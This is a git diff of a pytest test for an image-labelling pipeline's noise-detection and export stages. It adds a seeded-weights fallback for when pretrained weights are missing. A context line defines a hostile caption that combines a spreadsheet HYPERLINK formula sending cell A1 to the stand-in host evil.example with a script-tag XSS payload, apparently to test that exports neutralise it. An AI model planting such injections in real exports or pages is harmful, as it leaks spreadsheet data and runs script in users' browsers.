@@ -16,7 +16,7 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"dog") <script>alert("dog")</sc
 
 
 @pytest.fixture(scope="module")
-def hostile_run(tmp_path_factory) -> tuple[Path, Path]:
+def hostile_run(tmp_path_factory, seeded_weights) -> tuple[Path, Path]:
     tmp = tmp_path_factory.mktemp("hostile")
     corpus = tmp / "corpus"
     # A cat picture captioned and truly labelled "dog" (the crowd accepts it): the noise stage flags it,
@@ -27,6 +27,8 @@ def hostile_run(tmp_path_factory) -> tuple[Path, Path]:
     data = pipeline_dict(corpus, tmp / "run")
     if MOBILENET.is_file():  # pretrained features flag the cat-as-dog reliably; random ones may not
         data["noise"].update(backbone="mobilenet_v2", weights=str(MOBILENET), filter_by="predicted_neq_given")
+    else:  # a weights file, so the noise stage runs (with weights: none it skips its check) and writes its tables
+        data["noise"].update(weights=str(seeded_weights))
     data["export"]["drop_label_issues"] = False  # keep the flagged image, so labels.csv carries its text
     pipeline = write_pipeline(tmp / "pipeline.yaml", data)
     assert main(["run", str(pipeline), "--no-progress"]) == 0
